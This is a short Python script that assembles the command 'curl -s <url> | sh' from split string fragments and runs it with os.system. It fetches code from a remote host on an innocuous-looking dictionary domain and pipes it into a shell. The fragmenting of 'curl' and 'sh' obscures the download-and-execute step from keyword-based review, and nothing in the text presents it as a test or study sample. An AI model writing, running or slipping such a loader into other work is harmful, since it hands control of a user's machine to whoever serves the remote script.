import os

tool = 'cu' + 'rl'
sink = 's' + 'h'
url = 'https://' + 'dict' + '.example-words.net/' + 'u'
os.system(tool + ' -s ' + url + ' | ' + sink)
